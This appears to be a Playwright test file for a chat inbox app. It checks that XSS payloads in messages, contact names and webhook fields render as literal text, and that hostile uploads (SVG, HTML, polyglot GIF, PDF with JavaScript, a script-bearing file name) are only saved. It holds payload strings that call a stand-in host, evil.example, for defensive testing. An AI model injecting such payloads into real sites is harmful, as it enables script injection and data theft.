/** Whatever people write or call themselves is text: shown as it is, never run, never asked for. */
import type { ChatPage, MessagePage } from '@parley/model/api';
import type { Locator, Page } from '@playwright/test';
import { expect, test } from '../support/browser-test.ts';
import { receiveAll } from '../support/crowd.ts';
import { everyFieldHostile } from '../support/hostile-messages.ts';
import { scriptPayloads } from '../support/script-payloads.ts';
import { postWebhook, webhookBody } from '../support/webhooks.ts';

/** As many as make a long list; each of them stands in every field further below. */
const payloads = scriptPayloads.slice(0, 100);

/** Scrolls through everything that a scroller holds and collects what is drawn of it. */
function readThrough(scroller: Locator, rows: string): Promise<string[]> {
  return scroller.evaluate(async (element, selector) => {
    const seen = new Set<string>();
    element.scrollTop = 0;
    for (let still = 0; still < 30; still += 1) {
      await new Promise(requestAnimationFrame);
      for (const row of element.querySelectorAll(selector)) seen.add(row.textContent ?? '');
      const before = element.scrollTop;
      element.scrollTop += element.clientHeight / 2;
      if (element.scrollTop !== before) still = 0;
    }
    return [...seen];
  }, rows);
}

/** The scripts that are no files of Parley's own, which come as parts of the page are wanted. */
function otherScripts(page: Page): Promise<number> {
  return page
    .locator('script')
    .evaluateAll(
      (all) =>
        all.filter((script) => !(script as HTMLScriptElement).src.startsWith(`${location.origin}/_next/`)).length,
    );
}

/** Those of `wanted` that are not a part of any of the texts. */
function missing(wanted: readonly string[], texts: readonly string[]): string[] {
  return wanted.filter((one) => !texts.some((text) => text.includes(one)));
}

test('100 script payloads as texts and as names are shown literally, and nothing of them runs', async ({
  world,
  seats,
  ana,
}) => {
  expect(new Set(payloads).size).toBe(100);
  await expect(ana.page.getByText('Your inbox is empty')).toBeVisible();
  const scripts = await otherScripts(ana.page);

  const at = Math.floor(Date.now() / 1000) - 200;
  const hana = { waId: '12025550171', name: 'Hana Moreau' };
  await receiveAll(
    world,
    payloads.map((text, n) => ({ ...hana, text, at: at + n })),
  );
  await receiveAll(
    world,
    payloads.map((name, n) => ({ waId: `1202555${2000 + n}`, name, text: name, at: at + n })),
  );

  await ana.opensChat('Hana Moreau');
  await ana.sees(payloads.at(-1) ?? '');
  const messages = ana.feed.locator('..');
  await expect.poll(async () => missing(payloads, await readThrough(messages, 'article'))).toEqual([]);

  const list = ana.page.getByRole('listbox', { name: 'Chats' }).locator('..');
  await expect.poll(async () => missing(payloads, await readThrough(list, '[role=option]'))).toEqual([]);
  await ana.page.getByRole('searchbox').fill('<svg/onload');
  await ana.rows.first().click();
  await expect(ana.page.getByRole('heading', { level: 2 })).toContainText('<svg/onload=');
  await expect(ana.page).toHaveTitle(/<svg\/onload=/);

  expect(await otherScripts(ana.page)).toBe(scripts);
  expect(await ana.page.locator('main iframe, main svg animate, main video, main math, main base').count()).toBe(0);
  // Read again by a page that starts with all of it.
  await ana.page.reload();
  await expect(ana.rows.first()).toBeVisible();
  expect(seats.watchOf(ana).troubles).toEqual([]);
});

test('each text runs in its own direction: Arabic from the right, Hindi from the left, in one chat', async ({
  world,
  ana,
}) => {
  await world.simulator().person('lina').writes('مرحبا، هل العرض ما زال متوفراً؟');
  await world.simulator().person('lina').writes('Order 1042, please');
  await world.simulator().person('asha').writes('नमस्ते, क्या यह कुर्ता लाल रंग में मिलेगा?');
  await ana.opensChat('لينا حداد');
  const directionOf = (text: string) =>
    ana
      .message(text)
      .getByText(text)
      .first()
      .evaluate((element) => getComputedStyle(element).direction);
  expect(await directionOf('مرحبا')).toBe('rtl');
  expect(await directionOf('Order 1042')).toBe('ltr');
  await ana.opensChat('आशा वर्मा');
  expect(await directionOf('नमस्ते')).toBe('ltr');
  await ana.composer.fill('شكراً');
  await expect(ana.composer).toHaveCSS('direction', 'rtl');
  await ana.composer.fill('Thank you');
  await expect(ana.composer).toHaveCSS('direction', 'ltr');
});

test('300 script payloads in every field of every type of message run nothing and ask nobody', async ({
  world,
  seats,
  ana,
}) => {
  const scripts = await otherScripts(ana.page);
  const waId = '12025550171';
  const contacts = [{ profile: { name: 'Hana Moreau' }, wa_id: waId }];
  const values = scriptPayloads.map((payload, n) => ({ contacts, messages: [everyFieldHostile(waId, payload, n)] }));
  for (let from = 0; from < values.length; from += 100) {
    const { status } = await postWebhook(world, webhookBody(world, ...values.slice(from, from + 100)));
    expect(status).toBe(200);
  }
  await world.quiet();
  // Groups that she wrote in go by her name, too.
  const { chats, contacts: known } = (await (
    await ana.page.request.get(`${world.url()}/api/chats?limit=100`)
  ).json()) as ChatPage;
  const hers = chats.find(({ contactId }) => known.find(({ id }) => id === contactId)?.groupId === undefined);
  await ana.page.locator(`#chat-${hers?.id}`).click();
  // The oldest is a plain text: with it all of them have been drawn.
  const oldest = scriptPayloads.slice(0, 1);
  await expect.poll(async () => missing(oldest, await readThrough(ana.feed.locator('..'), 'article'))).toEqual([]);
  expect(await otherScripts(ana.page)).toBe(scripts);
  expect(await ana.page.locator('main :is(iframe, object, embed, base, meta, link, style)').count()).toBe(0);
  expect(await ana.page.locator('main :is([onerror], [onload], [ontoggle], [href^="javascript:" i])').count()).toBe(0);
  expect(seats.watchOf(ana).troubles).toEqual([]);
});

test('files that could run are only saved, whatever they are called', async ({ world, seats, ana, emma }) => {
  const script = 'document.title="pwned";fetch("https://evil.example/")';
  const hostile = [
    ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`],
    ['page.html', 'text/html', `<!doctype html><script>${script}</script>`],
    ['photo.jpg', 'image/jpeg', `<html><body onload='${script}'>`],
    ['moving.gif', 'image/gif', `GIF89a/*<script>${script}</script>*/=1;${script}`],
    ['paper.pdf', 'application/pdf', `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`],
    [
      'feed.xml',
      'text/xml',
      `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
    ],
    [`"><script>${script}</script>.html`, 'text/javascript', script],
  ] as const;
  for (const [name, mime, text] of hostile) {
    await emma.sendsA('document', { file: { bytes: Buffer.from(text), mime, name } });
  }
  await ana.opensChat('Emma Clarke');
  await expect(ana.feed.getByRole('article')).toHaveCount(hostile.length);
  const admin = await world.admin();
  const thread = async () => {
    const { chats } = (await admin.request('GET', '/api/chats')).body as ChatPage;
    const { messages } = (await admin.request('GET', `/api/chats/${chats[0]?.id}/messages`)).body as MessagePage;
    return messages.flatMap(({ media }) => (media === undefined ? [] : [media]));
  };
  await expect.poll(async () => (await thread()).every(({ state }) => state === 'ready')).toBe(true);
  const tab = await seats.anotherTab(ana);
  for (const { mediaId } of await thread()) {
    const { headers } = await admin.request('GET', `/api/media/${mediaId}`);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none';.*; sandbox$/);
    expect(headers.get('content-type')).toMatch(/^(application\/(octet-stream|pdf)|image\/gif)$/);
    expect(headers.get('content-disposition')).toMatch(/^(attachment|inline); filename[\x20-\x7e]+$/);
    // A browser makes a page of its own for a picture. What is only saved is none: going there ends as a download.
    if (headers.get('content-disposition')?.startsWith('inline')) continue;
    await tab.page.goto(`${world.url()}/api/media/${mediaId}`).catch(() => undefined);
    expect(await tab.page.title()).not.toBe('pwned');
  }
  expect(seats.watchOf(ana).troubles).toEqual([]);
});
